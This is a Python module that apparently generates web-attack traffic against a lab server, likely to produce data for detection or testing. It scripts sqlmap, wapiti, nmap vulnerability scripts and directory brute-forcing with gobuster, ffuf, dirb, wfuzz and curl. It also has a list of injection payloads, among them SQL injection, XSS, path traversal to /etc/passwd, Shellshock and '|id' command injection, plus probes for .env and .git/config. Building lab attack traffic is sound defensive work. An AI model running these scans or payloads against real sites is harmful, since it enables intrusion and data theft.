"""Against the web: injections, path and parameter guessing, scanners."""

from urllib.parse import quote

from attacks.way import Way

PATHS = ["admin", "login", "backup", ".git/config", ".env", "wp-login.php", "phpmyadmin", "config", "test", "old", "api", "shop",
         "page", "server-status", "cgi-bin/test", "db.sql", "index.php", "upload", "docs", "robots.txt"]
POISON = ["' OR '1'='1", "1 UNION SELECT 1,2", "<script>alert(1)</script>", "../../../../etc/passwd", "1;SELECT 1", "${7*7}",
          "() { :; }; echo", "' AND 1=CAST((SELECT 1) AS int)--", "%00", "|id"]


def place(act):
    server = act.server("smb")
    return f"http://{server.v4}:{server.port['http']}"


def wordlist(act, count=1500):
    rng = act.rng
    return act.scratch_lines(PATHS + [f"{rng.choice(PATHS)}{rng.choice(['', '.php', '.bak', '/'])}{number}" for number in range(count)],
                             ".txt")


def sqlmap(act):
    act.run(["sqlmap", "--batch", "-u", f"{place(act)}/shop/{act.pick('target', ['item?id=1', 'search?q=tea'])}", "--level",
             act.pick("level", [1, 2, 3]), "--risk", "1", "--flush-session", "--disable-coloring", "--delay",
             act.pick("delay_s", ["0", "0", "0.2"]), "--output-dir", "/run/lab/tmp/sqlmap",
             *act.pick("evasion", [[], ["--random-agent"], ["--tamper=space2comment"]])])


def wapiti(act):
    act.run(["wapiti", "-u", f"{place(act)}/shop/", "-m", act.pick("modules", ["sql,xss", "exec,file", "common"]), "-S",
             act.pick("speed", ["normal", "aggressive", "polite"]), "--flush-session", "-f", "txt", "-o", "/run/lab/tmp/wapiti.txt"])


def whatweb(act):
    act.run(["whatweb", "-a", act.pick("aggression", [1, 3, 4]), "--no-errors", f"{place(act)}/", f"{place(act)}/shop/"])


def nmap(act):
    server = act.server("smb")
    act.run(["nmap", "-n", "-Pn", "-p", server.port["http"], "--script",
             act.pick("scripts", ["http-enum", "http-sql-injection", "http-vuln*", "http-headers,http-methods,http-title"]), server.v4])


def finder(tool):
    def attack(act):
        at, words = place(act), wordlist(act)
        threads = act.pick("threads", [1, 4, 10])
        delay = act.pick("delay_ms", [0, 0, 50, 300])
        act.run({
            "gobuster": ["gobuster", "dir", "-q", "-u", at, "-w", words, "-t", threads, "--delay", f"{delay}ms"],
            "ffuf": ["ffuf", "-s", "-u", f"{at}/FUZZ", "-w", words, "-t", threads, *(["-p", delay / 1000] if delay else [])],
            "dirb": ["dirb", at, words, "-S", "-r", *(["-z", delay] if delay else [])],
            "wfuzz": ["wfuzz", "-w", words, "-t", threads, *(["-s", delay / 1000] if delay else []), "--hc", "404", f"{at}/FUZZ"],
        }[tool])

    return attack


def curl(act):
    """Path guessing: hundreds of short requests that mostly miss."""
    at, rng = place(act), act.rng
    lines = [f'url = "{at}/{rng.choice(PATHS)}{number}.php"\noutput = "/dev/null"' for number in range(250)]
    act.run(["curl", "-s", "-K", act.scratch_lines(lines), *act.pick("connections", [[], ["-H", "Connection: close"]])])


def own(act):
    """Poisoned parameters, one at a time, by hand-made requests; slow at times."""
    server, rng = act.server("smb"), act.rng
    for _ in act.every(act.draw("period_s", 0.02, 2.5), act.pick("jitter", [0, 0.5])):
        words = quote(rng.choice(POISON)) if rng.random() < 0.7 else rng.choice(PATHS)
        path = rng.choice([f"/shop/item?id={words}", f"/shop/search?q={words}", f"/{words}", f"/page?file={words}"])
        with act.tcp(server.v4, server.port["http"], 5) as client:
            client.sendall(f"GET {path} HTTP/1.1\r\nHost: lab.test\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n".encode())
            client.recv(8192)


F = "web_attack"
CASES = [("sqlmap", "injection", sqlmap), ("wapiti", "scanner", wapiti), ("whatweb", "scanner", whatweb), ("nmap", "scripts", nmap),
         *[(tool, "paths", finder(tool)) for tool in ("gobuster", "ffuf", "dirb", "wfuzz")], ("curl", "paths", curl),
         ("ours", "injection", own)]
# Interpreters that load for long, and then look before they attack; whatweb ends by itself.
SLOW = {"sqlmap": (20, 40), "wapiti": (20, 40), "whatweb": (40, 60)}
WAYS = [Way(F, tool, name, act, seconds=SLOW.get(tool, (8, 24))) for tool, name, act in CASES]
WAYS += [Way(F, "ours", "injection", own, by="client", seconds=(8, 24))]
TOOLS = {"sqlmap": "sqlmap", "wapiti": "wapiti", "whatweb": "whatweb", "nmap": "nmap", "gobuster": "gobuster", "ffuf": "ffuf",
         "dirb": "dirb", "wfuzz": "wfuzz", "curl": "curl", "ours": "ours"}
